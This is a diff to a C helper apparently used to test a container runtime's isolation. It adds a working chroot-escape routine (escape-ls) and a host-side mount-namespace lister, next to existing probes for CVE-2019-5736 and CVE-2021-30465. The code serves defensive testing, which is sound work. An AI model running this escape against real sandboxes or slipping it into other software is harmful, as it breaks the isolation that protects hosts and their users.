@@ -9,6 +9,15 @@
  *                               through /proc/self/fd (CVE-2019-5736)
  *   attack exchange A B STOP    swap A and B with renameat2(RENAME_EXCHANGE)
  *                               until the file STOP exists (CVE-2021-30465)
+ *   attack escape-ls JAIL DIR...
+ *                               leave a chroot the classic way (chroot JAIL
+ *                               with the cwd outside it; needs
+ *                               CAP_SYS_CHROOT), then print "DIR entries"
+ *                               for each DIR found there
+ *   attack mounts-of PID        (an inspection, run on the host) every mount
+ *                               of PID's mount namespace, reachable from its
+ *                               root or not (listmount/statmount, Linux 6.8):
+ *                               one line "magic major:minor" each
  *   attack start-socket PATH KIND
  *                               send one malformed message to a start
  *                               socket: short, error, long-start (a START
@@ -20,6 +29,8 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <dirent.h>
+#include <sched.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
@@ -130,6 +141,94 @@ static int start_socket(const char *path, const char *kind)
     return 0;
 }
 
+static int escape_ls(const char *jail, int n, char **dirs)
+{
+    if (chdir("/") < 0 || chroot(jail) < 0) {
+        printf("chroot %d\n", errno);
+        return 0;
+    }
+    for (int i = 0; i < 64; i++)
+        if (chdir("..") < 0)
+            break;
+    if (chroot(".") < 0) {
+        printf("chroot %d\n", errno);
+        return 0;
+    }
+    for (int i = 0; i < n; i++) {
+        DIR *d = opendir(dirs[i]);
+        int entries = 0;
+        if (d) {
+            struct dirent *e;
+            while ((e = readdir(d)))
+                if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
+                    entries++;
+            closedir(d);
+        }
+        printf("%s %d\n", dirs[i], d ? entries : -errno);
+    }
+    return 0;
+}
+
+/* listmount(2) and statmount(2): not in Debian 12's headers. */
+struct mnt_id_req_v0 {
+    unsigned int size, spare;
+    unsigned long long mnt_id, param;
+};
+struct statmount_head {
+    unsigned int size, spare1;
+    unsigned long long mask;
+    unsigned int sb_dev_major, sb_dev_minor;
+    unsigned long long sb_magic;
+    unsigned int sb_flags, fs_type;
+    unsigned long long mnt_id, mnt_parent_id;
+};
+
+static int stat_mount(unsigned long long id, struct statmount_head *h)
+{
+    static union { struct statmount_head h; char bytes[4096]; } buf;
+    struct mnt_id_req_v0 one = { .size = sizeof one, .mnt_id = id, .param = 1 | 2 /* SB_BASIC | MNT_BASIC */ };
+    if (syscall(457 /* statmount */, &one, &buf, sizeof buf, 0) < 0)
+        return -1;
+    *h = buf.h;
+    return 0;
+}
+
+static int mounts_of(int pid)
+{
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
+    int ns = open(path, O_RDONLY | O_CLOEXEC);
+    if (ns < 0 || setns(ns, 0) < 0) {
+        printf("setns %d\n", errno);
+        return 1;
+    }
+    static unsigned long long ids[4096];
+    struct mnt_id_req_v0 req = { .size = sizeof req, .mnt_id = ~0ULL /* LSMT_ROOT */ };
+    long n = syscall(458 /* listmount */, &req, ids, 4096, 0);
+    struct statmount_head h;
+    if (n <= 0 || stat_mount(ids[0], &h) < 0) {
+        printf("listmount %d\n", errno);
+        return 1;
+    }
+    /* LSMT_ROOT starts at our root, which may sit on top of other mounts
+     * (a root moved onto /): climb to the namespace's own root first. */
+    unsigned long long top = h.mnt_id;
+    for (int k = 0; k < 64 && h.mnt_parent_id != h.mnt_id && stat_mount(h.mnt_parent_id, &h) == 0; k++)
+        top = h.mnt_id;
+    if (stat_mount(top, &h) == 0)
+        printf("%llx %u:%u\n", h.sb_magic, h.sb_dev_major, h.sb_dev_minor);
+    req.mnt_id = top;
+    n = syscall(458 /* listmount */, &req, ids, 4096, 0);
+    if (n < 0) {
+        printf("listmount %d\n", errno);
+        return 1;
+    }
+    for (long i = 0; i < n; i++)
+        if (stat_mount(ids[i], &h) == 0)
+            printf("%llx %u:%u\n", h.sb_magic, h.sb_dev_major, h.sb_dev_minor);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     setvbuf(stdout, NULL, _IOLBF, 0);
@@ -139,6 +238,10 @@ int main(int argc, char **argv)
         return overwrite(atoi(argv[2]), argv[3], atoi(argv[4]));
     if (argc == 5 && strcmp(argv[1], "exchange") == 0)
         return exchange(argv[2], argv[3], argv[4]);
+    if (argc >= 4 && strcmp(argv[1], "escape-ls") == 0)
+        return escape_ls(argv[2], argc - 3, argv + 3);
+    if (argc == 3 && strcmp(argv[1], "mounts-of") == 0)
+        return mounts_of(atoi(argv[2]));
     if (argc == 4 && strcmp(argv[1], "start-socket") == 0)
         return start_socket(argv[2], argv[3]);
     fprintf(stderr, "usage: attack probe PID | overwrite PID GO N | exchange A B STOP | start-socket PATH KIND\n");
